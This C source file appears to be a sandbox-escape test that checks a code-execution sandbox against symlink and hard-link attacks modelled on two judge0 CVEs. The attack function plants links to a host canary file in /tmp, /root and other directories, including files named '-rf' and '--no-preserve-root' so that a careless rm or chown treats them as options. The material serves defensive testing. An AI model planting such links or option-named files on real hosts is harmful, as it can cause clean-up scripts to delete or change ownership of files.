/* tries: leave symbolic links to the canary in every place that somebody may clean up or read after
   the run (/tmp, /dev/shm, the working directory, /run, names like core, report.json, out), and
   files named to be options of a careless rm or chown */
/* must fail because: what a guest makes lives in the sentry's memory; nobody on the host walks,
   changes the owner of, or removes guest-made paths */
/* an escape would: have the canary removed, emptied or handed to another owner by the clean-up that
   follows the run (CVE-2024-28185, CVE-2024-28189 of judge0) */
/* source: ATTACKS.md F8 */
#include "tricks.h"

static int attack(void)
{
    static const char *const dirs[] = {".",     "/tmp",  "/dev/shm", "/run",   "/var/tmp",
                                       "/root", "/home", "/",        "/attack"};
    static const char *const names[] = {
        "core",      "report.json", "out",     "stdout",           "stderr",
        "meta",      "box",         ".sentry", "result",           "state.json",
        "upper",     "work",        "-rf",     "--reference=core", "--no-preserve-root",
        "lost+found"};
    const char *file = fact("host_file"), *dir = fact("host_dir");
    int made = 0, hard = 0;
    if (!file || !dir)
        return cannot("no host_file, no host_dir");
    for (int d = 0; d < COUNT(dirs); d++) {
        for (int i = 0; i < COUNT(names); i++) {
            char path[512], deep[512], up[5000];
            snprintf(path, sizeof(path), "%s/%s", dirs[d], names[i]);
            snprintf(deep, sizeof(deep), "%s/%s.d", dirs[d], names[i]);
            snprintf(up, sizeof(up), "../../../../../../../../../../../..%s", file);
            made += symlink(i % 2 ? up : file, path) == 0;
            if (reach(AT_FDCWD, path) == 1)
                return escaped("%s reads as the canary", path);
            if (truncate(path, 0) == 0 || chmod(path, 0777) == 0 || chown(path, getuid(), -1) == 0)
                return escaped("%s was changed", path);
            made += mkdir(deep, 0777) == 0;
            strcat(deep, "/f");
            made += symlink(dir, deep) == 0;
            hard += link(file, deep) == 0 ||
                    linkat(AT_FDCWD, path, AT_FDCWD, deep, AT_SYMLINK_FOLLOW) == 0;
        }
    }
    if (hard)
        return escaped("%d hard links to the canary", hard);
    if (!made)
        return cannot("no place where a link can be made");
    return contained("%d links planted, none leads anywhere in here", made);
}

static int twin(void)
{
    char buf[8] = "";
    int fd = open("/tmp/target", O_WRONLY | O_CREAT, 0600);
    if (fd < 0 || write(fd, "here", 4) != 4 || symlink("target", "/tmp/link") < 0)
        return broken("a file and a link to it: %s", err_name(errno));
    fd = open("/tmp/link", O_RDONLY);
    if (fd < 0 || read(fd, buf, 4) != 4 || strcmp(buf, "here") != 0 || unlink("/tmp/link") < 0)
        return broken("reading through the link: %s", err_name(errno));
    return works("a link to a file of our own reads and goes");
}

int main(int argc, char **argv)
{
    return attack_main(argc, argv, attack, twin);
}
